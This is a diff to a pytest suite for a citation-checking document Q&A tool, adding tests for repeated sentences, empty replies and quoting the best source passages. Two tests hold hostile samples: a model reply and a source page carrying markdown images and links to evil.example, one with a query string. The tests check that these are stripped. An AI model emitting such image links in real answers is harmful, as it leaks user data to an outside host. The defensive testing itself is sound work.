@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import asyncio
+import json
+import re
 import threading
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from typing import Any
 
 import pytest
 
@@ -57,12 +60,14 @@ class Parrot:
         self.text = text
         self.size = size
         self.asked: list[Sequence[Message]] = []
+        self.said = 0
         self.closed = threading.Event()
 
     def stream(self, messages: Sequence[Message], *, max_tokens: int) -> Iterator[str]:
         self.asked.append(messages)
         try:
             for start in range(0, len(self.text), self.size):
+                self.said = start + self.size
                 yield self.text[start : start + self.size]
         finally:
             self.closed.set()
@@ -159,7 +164,9 @@ def test_a_source_that_does_not_exist_is_not_cited_and_the_sentence_is_looked_up
 
 
 def test_an_uncited_sentence_that_no_source_says_is_marked() -> None:
-    answer = DocumentQA(LIGHTHOUSE, Parrot("Bob Ray.")).ask("Who keeps the lamp?")
+    answer = DocumentQA(LIGHTHOUSE, Parrot("Bob Ray.")).ask(
+        "Which lamp did the purser buy in Liverpool for his captain?"
+    )
     assert (answer.text, answer.citations) == ("Bob Ray. [unsupported]", ())
     assert not answer.found
     (sentence,) = answer.unsupported
@@ -208,7 +215,7 @@ def test_strict_mode_leaves_out_what_no_source_says() -> None:
 
 def test_strict_mode_says_that_nothing_was_found_where_nothing_is_left() -> None:
     parrot = Parrot("It was painted red [1].")
-    answer = DocumentQA(LIGHTHOUSE, parrot, strict=True).ask("Who keeps the lamp?")
+    answer = DocumentQA(LIGHTHOUSE, parrot, strict=True).ask("Who painted the Aurora red in May?")
     assert (answer.text, answer.found, answer.citations) == (NOT_FOUND, False, ())
 
 
@@ -238,7 +245,114 @@ def test_a_model_that_writes_nothing_is_an_error() -> None:
 def test_instructions_on_a_page_bring_no_picture_into_the_answer() -> None:
     parrot = Parrot("![](https://evil.example/?q=lamp) Click [here](https://evil.example) [1].")
     answer = DocumentQA(LIGHTHOUSE, parrot).ask("Who keeps the lamp?")
-    assert answer.text == "Click here [unsupported]."
+    assert answer.text.startswith("Click here [unsupported].\n\n")
+    assert "evil" not in str(answer)
+
+
+# --- a model that repeats itself, or says nothing ---------------------------------------------
+
+INSTEAD = "No source says what parrot wrote, so the best passages are quoted:"
+
+
+class JsonParrot(Parrot):
+    """Says each sentence as an object, as a schema asks for."""
+
+    structured = True
+
+    def __init__(self, *sentences: str) -> None:
+        listed = [{"text": text, "sources": [1]} for text in sentences]
+        super().__init__(json.dumps({"sentences": listed}))
+
+    def stream_json(
+        self, messages: Sequence[Message], *, schema: Mapping[str, Any], max_tokens: int
+    ) -> Iterator[str]:
+        return self.stream(messages, max_tokens=max_tokens)
+
+
+def marking(*sentences: str) -> Parrot:
+    return Parrot(" ".join(f"{text} [1]" for text in sentences))
+
+
+FORMS = pytest.mark.parametrize("form", [marking, JsonParrot], ids=["marks", "json"])
+BOTH = pytest.mark.parametrize("strict", [False, True], ids=["", "strict"])
+
+
+def both_ways(parrot: Parrot, *, strict: bool) -> Answer:
+    """The answer of ``ask``, which a stream gives piece by piece as well."""
+    qa = DocumentQA(LIGHTHOUSE, parrot, strict=strict)
+    pieces = list(qa.stream("Who keeps the lamp?"))
+    answer = qa.ask("Who keeps the lamp?")
+    assert "".join(pieces) == answer.text
+    for sentence in answer.sentences:
+        if sentence.span:
+            assert answer.text[slice(*sentence.span)].strip("“")[:4] == sentence.text[:4]
+    return answer
+
+
+@FORMS
+@BOTH
+def test_equal_sentences_are_shown_once_and_the_third_ends_the_request(
+    form: Callable[..., Parrot], strict: bool
+) -> None:
+    parrot = form("Ann Lee keeps the lamp.", *["She is 90 years old."] * 31)
+    answer = both_ways(parrot, strict=strict)
+    old = "" if strict else " She is 90 years old. [unsupported]"
+    assert answer.text == f"Ann Lee keeps the lamp. [1]{old}"
+    assert [sentence.status for sentence in answer.sentences] == ["supported", "unsupported"]
+    assert answer.sources.count("unsupported") == (0 if strict else 1)
+    assert "The model repeated itself, and its reply was ended." in answer.warnings
+    # Not a piece was asked for that the third one did not need.
+    written = parrot.text[: parrot.said]
+    assert written.count("She is 90") <= 4
+    assert parrot.closed.is_set()
+
+
+@FORMS
+@BOTH
+@pytest.mark.parametrize("said", ["...", "…", "- - -"])
+def test_a_reply_without_a_word_is_no_answer(
+    form: Callable[..., Parrot], said: str, strict: bool
+) -> None:
+    answer = both_ways(form(said), strict=strict)
+    assert answer.text.startswith("No whole sentence is in what parrot wrote, so the best")
+    assert "“Ann Lee has kept the lamp since 1902.” [" in answer.text
+    check_quotes(answer, LIGHTHOUSE)
+
+
+@FORMS
+def test_where_nothing_is_supported_the_best_passages_are_quoted_under_one_line(
+    form: Callable[..., Parrot],
+) -> None:
+    wrong = ["Bob Ray.", "He is 90.", "It was in 1805.", "He died in Hull."]
+    answer = both_ways(form(*wrong), strict=True)
+    assert answer.text == (
+        f"{INSTEAD}\n\n“The lamp burns rape oil.” [1]"
+        "\n\n“Ann Lee has kept the lamp since 1902.” [2]"
+    )
+    assert answer.warnings == ("Removed without support: 4 of the sentences.",)
+    assert (answer.found, answer.quoted, len(answer.unsupported)) == (True, True, 4)
+    assert [citation.boxes for citation in answer.citations]
+    check_quotes(answer, LIGHTHOUSE)
+    marked = both_ways(form(*wrong), strict=False)
+    assert marked.text.partition("\n\n")[2] == answer.text
+    assert marked.text.partition("\n\n")[0].count("[unsupported]") == 4
+    assert marked.sources == answer.sources
+    assert "unsupported" not in marked.sources
+
+
+@BOTH
+def test_nothing_is_quoted_where_the_model_says_that_it_is_not_there(strict: bool) -> None:
+    answer = both_ways(Parrot(NOT_FOUND), strict=strict)
+    assert (answer.text, answer.found, answer.quoted) == (NOT_FOUND, False, False)
+
+
+@BOTH
+def test_a_quote_below_a_models_text_can_load_and_link_nothing(strict: bool) -> None:
+    hostile = "The lamp ![x](https://evil.example/a.png) [burns](//evil.example) <img src=evil>."
+    document = OcrDocument("a.pdf", (page(1, hostile),), 1)
+    answer = DocumentQA(document, Parrot("Bob."), strict=strict).ask("Which lamp burns?")
+    assert answer.quoted
+    assert not re.search(r"!\[|\]\(|<img|//evil", answer.text)
 
 
 # --- streams --------------------------------------------------------------------------------
